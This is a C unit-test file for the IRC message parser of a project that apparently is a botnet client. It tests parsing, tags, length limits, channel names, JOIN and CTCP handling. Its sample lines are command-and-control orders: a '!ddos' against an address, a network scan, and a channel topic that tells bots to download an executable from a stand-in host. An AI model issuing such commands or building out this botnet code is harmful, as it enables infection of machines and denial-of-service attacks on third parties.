/*
 * test_irc - the IRC line parser on known lines: what a server sends (RFC 1459/2812 examples,
 * numerics, IRCv3 tags), what a hostile one might (overlong lines, NULs, bare CRs, broken
 * prefixes), and the follower's helpers (JOIN lists, PRIVMSG, TOPIC, CTCP, channel names).
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "botnet/irc.h"

/* "a|b|c": the parameters joined by '|', for table comparison. */
static void join_params(const struct irc_msg *m, char *out, size_t sz)
{
	size_t i, n = 0;

	out[0] = '\0';
	for (i = 0; i < m->nparams; i++)
		n += (size_t)snprintf(out + n, sz - n, "%s%.*s", i ? "|" : "",
		                      (int)m->params[i].len, m->params[i].p);
}

static int slice_is(struct slice s, const char *lit)
{
	return s.len == strlen(lit) && (s.len == 0 || memcmp(s.p, lit, s.len) == 0);
}

struct line_case {
	const char *in;
	int rc;
	const char *tags, *nick, *user, *host, *command;
	int numeric;
	const char *params; /* joined by '|' */
	int trailing;
};

#define BAD(s)                                                                                     \
	{                                                                                          \
		s, -EINVAL, "", "", "", "", "", -1, "", 0                                          \
	}

static const struct line_case lines[] = {
    {"PING :irc.example.net\r\n", 0, "", "", "", "", "PING", -1, "irc.example.net", 1},
    {":WiZ!jto@tolsun.oulu.fi NICK Kilroy", 0, "", "WiZ", "jto", "tolsun.oulu.fi", "NICK", -1,
     "Kilroy", 0},
    {":irc.example.net 001 bot :Welcome to the Internet Relay Network bot!b@h\r\n", 0, "",
     "irc.example.net", "", "", "001", 1, "bot|Welcome to the Internet Relay Network bot!b@h", 1},
    {":srv 353 me = #chan :@op +voice plain\n", 0, "", "srv", "", "", "353", 353,
     "me|=|#chan|@op +voice plain", 1},
    {":a!b@c PRIVMSG #cc :!ddos 10.0.0.1 80", 0, "", "a", "b", "c", "PRIVMSG", -1,
     "#cc|!ddos 10.0.0.1 80", 1},
    {":n@h JOIN #x", 0, "", "n", "", "h", "JOIN", -1, "#x", 0},
    {"@time=2026-11-28T20:00:00.000Z;+draft/x=a\\sb :n!u@h PRIVMSG #c :hi", 0,
     "time=2026-11-28T20:00:00.000Z;+draft/x=a\\sb", "n", "u", "h", "PRIVMSG", -1, "#c|hi", 1},
    {"@flag PING x", 0, "flag", "", "", "", "PING", -1, "x", 0},
    /* An empty trailing parameter is still a parameter. */
    {"TOPIC #c :", 0, "", "", "", "", "TOPIC", -1, "#c|", 1},
    /* Runs of spaces separate like one; a ':' inside a middle parameter is data. */
    {"MODE   #c  +k   a:b", 0, "", "", "", "", "MODE", -1, "#c|+k|a:b", 0},
    /* RFC 2812: after 14 middles the rest is the 15th, colon or not. */
    {"CMD 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 :17", 0, "", "", "", "", "CMD", -1,
     "1|2|3|4|5|6|7|8|9|10|11|12|13|14|15 16 :17", 1},
    {"privmsg #c :lower-case verbs are verbs", 0, "", "", "", "", "privmsg", -1,
     "#c|lower-case verbs are verbs", 1},
    BAD(""),
    BAD("\r\n"),
    BAD(":only.prefix"),
    BAD(": nick PRIVMSG x"),
    BAD(":n! PRIVMSG x"),
    BAD(":n!u@ PRIVMSG x"),
    BAD("@ PING x"),
    BAD("@a=b"),
    BAD("@;a PING"),
    BAD("12 x"),
    BAD("1234 x"),
    BAD("PRIV-MSG x"),
    BAD("PRIVMSG #c :a\rb"),
    BAD("PRIVMSG #c :a\nb\r\n"),
};

static void test_lines(void **state)
{
	for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
		const struct line_case *c = &lines[i];
		struct irc_msg m;
		char params[1024];
		int rc = irc_parse(c->in, strlen(c->in), &m);

		if (rc != c->rc)
			fail_msg("case %zu \"%s\": rc %d, want %d", i, c->in, rc, c->rc);
		if (rc != 0)
			continue;
		assert_true(slice_is(m.tags, c->tags));
		assert_true(slice_is(m.nick, c->nick));
		assert_true(slice_is(m.user, c->user));
		assert_true(slice_is(m.host, c->host));
		assert_true(slice_is(m.command, c->command));
		assert_int_equal(m.numeric, c->numeric);
		join_params(&m, params, sizeof params);
		if (strcmp(params, c->params) != 0)
			fail_msg("case %zu: params \"%s\", want \"%s\"", i, params, c->params);
		assert_int_equal(m.trailing, c->trailing);
	}
}

/* NUL inside the line is refused (strlen would not see it, so the length is given). */
static void test_nul(void **state)
{
	static const char in[] = "PRIVMSG #c :a\0b\r\n";
	struct irc_msg m;

	assert_int_equal(irc_parse(in, sizeof in - 1, &m), -EINVAL);
}

/* 512 bytes with the CR-LF pass, 513 do not; tags have their own 8191. */
static void test_limits(void **state)
{
	static char line[IRC_TAGS_MAX + IRC_LINE_MAX + 16];
	struct irc_msg m;
	size_t head = strlen("PRIVMSG #c :");

	memcpy(line, "PRIVMSG #c :", head);
	memset(line + head, 'x', IRC_LINE_MAX - 2 - head);
	memcpy(line + IRC_LINE_MAX - 2, "\r\n", 2);
	assert_int_equal(irc_parse(line, IRC_LINE_MAX, &m), 0);
	assert_int_equal(m.params[1].len, IRC_LINE_MAX - 2 - head);
	/* Without the CR-LF the same 510 bytes pass; 511 do not. */
	assert_int_equal(irc_parse(line, IRC_LINE_MAX - 2, &m), 0);
	line[IRC_LINE_MAX - 2] = 'x';
	assert_int_equal(irc_parse(line, IRC_LINE_MAX - 1, &m), -EMSGSIZE);

	/* Tags: '@', 8189 bytes of tag and a space make 8191; one more is too many. */
	line[0] = '@';
	memset(line + 1, 'k', IRC_TAGS_MAX - 2);
	line[IRC_TAGS_MAX - 1] = ' ';
	memcpy(line + IRC_TAGS_MAX, "PING x", 6);
	assert_int_equal(irc_parse(line, IRC_TAGS_MAX + 6, &m), 0);
	assert_int_equal(m.tags.len, IRC_TAGS_MAX - 2);
	memmove(line + 1, line, IRC_TAGS_MAX + 6);
	line[0] = '@';
	assert_int_equal(irc_parse(line, IRC_TAGS_MAX + 7, &m), -EMSGSIZE);
}

static void test_tags(void **state)
{
	static const char in[] =
	    "@id=123AB;+example.com/ddos=a\\:b\\sc\\\\d\\;rose;empty= :s 001 x";
	struct irc_msg m;
	struct slice rest, k, v;
	char out[64];

	assert_int_equal(irc_parse(in, sizeof in - 1, &m), 0);
	rest = m.tags;
	assert_int_equal(irc_tag_next(&rest, &k, &v), 1);
	assert_true(slice_is(k, "id") && slice_is(v, "123AB"));
	assert_int_equal(irc_tag_next(&rest, &k, &v), 1);
	assert_true(slice_is(k, "+example.com/ddos"));
	/* \: is ';', \s is ' ', \\ is '\', an unknown escape is the character itself. */
	assert_int_equal(irc_tag_unescape(v, out, sizeof out), 7);
	assert_string_equal(out, "a;b c\\d");
	assert_int_equal(irc_tag_next(&rest, &k, &v), 1);
	assert_true(slice_is(k, "rose") && v.len == 0);
	assert_int_equal(irc_tag_next(&rest, &k, &v), 1);
	assert_true(slice_is(k, "empty") && v.len == 0);
	assert_int_equal(irc_tag_next(&rest, &k, &v), 0);

	assert_int_equal(irc_tag_find(&m, "id", &v), 1);
	assert_true(slice_is(v, "123AB"));
	assert_int_equal(irc_tag_find(&m, "i", &v), 0);

	/* A lone final backslash goes; the output is cut to fit and still terminated. */
	assert_int_equal(irc_tag_unescape((struct slice){"ab\\", 3}, out, sizeof out), 2);
	assert_string_equal(out, "ab");
	assert_int_equal(irc_tag_unescape((struct slice){"abcdef", 6}, out, 4), 6);
	assert_string_equal(out, "abc");
}

static void test_kinds(void **state)
{
	static const char srv[] = ":irc.example.net NOTICE * :hello";
	static const char cli[] = ":nick!u@irc.example.net PRIVMSG me :hi";
	static const char bare[] = ":nick PRIVMSG me :hi";
	struct irc_msg m;

	assert_int_equal(irc_parse(srv, sizeof srv - 1, &m), 0);
	assert_true(irc_prefix_is_server(&m));
	assert_true(irc_is(&m, "notice") && !irc_is(&m, "NOTICES") && !irc_is(&m, "NOTIC"));
	assert_int_equal(irc_parse(cli, sizeof cli - 1, &m), 0);
	assert_false(irc_prefix_is_server(&m));
	assert_int_equal(irc_parse(bare, sizeof bare - 1, &m), 0);
	assert_false(irc_prefix_is_server(&m));
}

static void test_channels(void **state)
{
	char long_name[IRC_CHANNEL_MAX + 2];

	assert_true(irc_is_channel((struct slice){"#botnet", 7}));
	assert_true(irc_is_channel((struct slice){"&local", 6}));
	assert_true(irc_is_channel((struct slice){"!12345ab", 8}));
	assert_true(irc_is_channel((struct slice){"+modeless", 9}));
	assert_false(irc_is_channel((struct slice){"#", 1}));
	assert_false(irc_is_channel((struct slice){"nick", 4}));
	assert_false(irc_is_channel((struct slice){"#a b", 4}));
	assert_false(irc_is_channel((struct slice){"#a,b", 4}));
	assert_false(irc_is_channel((struct slice){"#a:b", 4}));
	assert_false(irc_is_channel((struct slice){"#a\ab", 4}));
	assert_false(irc_is_channel((struct slice){"#a\0b", 4}));
	long_name[0] = '#';
	memset(long_name + 1, 'c', IRC_CHANNEL_MAX);
	assert_true(irc_is_channel((struct slice){long_name, IRC_CHANNEL_MAX}));
	assert_false(irc_is_channel((struct slice){long_name, IRC_CHANNEL_MAX + 1}));
}

static void test_join(void **state)
{
	static const char in[] = ":b!u@h JOIN #cc,#ops,&x key1,key2";
	struct irc_msg m;
	struct slice chans, keys, c, k;

	assert_int_equal(irc_parse(in, sizeof in - 1, &m), 0);
	assert_true(irc_is(&m, "JOIN"));
	chans = m.params[0];
	keys = m.params[1];
	assert_int_equal(irc_join_next(&chans, &keys, &c, &k), 1);
	assert_true(slice_is(c, "#cc") && slice_is(k, "key1"));
	assert_int_equal(irc_join_next(&chans, &keys, &c, &k), 1);
	assert_true(slice_is(c, "#ops") && slice_is(k, "key2"));
	assert_int_equal(irc_join_next(&chans, &keys, &c, &k), 1);
	assert_true(slice_is(c, "&x") && k.len == 0);
	assert_int_equal(irc_join_next(&chans, &keys, &c, &k), 0);

	/* "JOIN 0" leaves every channel: it names none. */
	chans = (struct slice){"0", 1};
	keys = (struct slice){"", 0};
	assert_int_equal(irc_join_next(&chans, &keys, &c, &k), -EINVAL);
}

static void test_privmsg_topic_ctcp(void **state)
{
	static const char pm[] = ":m!u@h PRIVMSG #cc :\001ACTION scans 10.0.0.0/8\001";
	static const char ver[] = ":m!u@h NOTICE bot :\001VERSION\001";
	static const char open[] = ":m!u@h PRIVMSG bot :\001PING 12345";
	static const char topic[] = ":m!u@h TOPIC #cc :.download http://198.51.100.7/x.exe";
	static const char rpl[] = ":srv 332 bot #cc :.update now";
	static const char join[] = ":m!u@h JOIN #cc";
	struct irc_msg m;
	struct slice t, x, v, a;

	assert_int_equal(irc_parse(pm, sizeof pm - 1, &m), 0);
	assert_int_equal(irc_privmsg(&m, &t, &x), 0);
	assert_true(slice_is(t, "#cc"));
	assert_int_equal(irc_ctcp(x, &v, &a), 1);
	assert_true(slice_is(v, "ACTION") && slice_is(a, "scans 10.0.0.0/8"));

	assert_int_equal(irc_parse(ver, sizeof ver - 1, &m), 0);
	assert_int_equal(irc_privmsg(&m, &t, &x), 0);
	assert_int_equal(irc_ctcp(x, &v, &a), 1);
	assert_true(slice_is(v, "VERSION") && a.len == 0);

	assert_int_equal(irc_parse(open, sizeof open - 1, &m), 0);
	assert_int_equal(irc_privmsg(&m, &t, &x), 0);
	assert_int_equal(irc_ctcp(x, &v, &a), 1); /* the closing \1 may be missing */
	assert_true(slice_is(v, "PING") && slice_is(a, "12345"));
	assert_int_equal(irc_ctcp((struct slice){"plain", 5}, &v, &a), 0);
	assert_int_equal(irc_ctcp((struct slice){"\001\001", 2}, &v, &a), 0);
	/* fuzz_irc: "\1 x" has no verb (tests/data/fuzz_irc/ctcp-empty-verb). */
	assert_int_equal(irc_ctcp((struct slice){"\001 x", 3}, &v, &a), 0);

	assert_int_equal(irc_parse(topic, sizeof topic - 1, &m), 0);
	assert_int_equal(irc_topic(&m, &t, &x), 0);
	assert_true(slice_is(t, "#cc") && slice_is(x, ".download http://198.51.100.7/x.exe"));
	assert_int_equal(irc_parse(rpl, sizeof rpl - 1, &m), 0);
	assert_int_equal(irc_topic(&m, &t, &x), 0);
	assert_true(slice_is(t, "#cc") && slice_is(x, ".update now"));

	assert_int_equal(irc_parse(join, sizeof join - 1, &m), 0);
	assert_int_equal(irc_privmsg(&m, &t, &x), -EINVAL);
	assert_int_equal(irc_topic(&m, &t, &x), -EINVAL);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_lines),  cmocka_unit_test(test_nul),
	    cmocka_unit_test(test_limits), cmocka_unit_test(test_tags),
	    cmocka_unit_test(test_kinds),  cmocka_unit_test(test_channels),
	    cmocka_unit_test(test_join),   cmocka_unit_test(test_privmsg_topic_ctcp),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
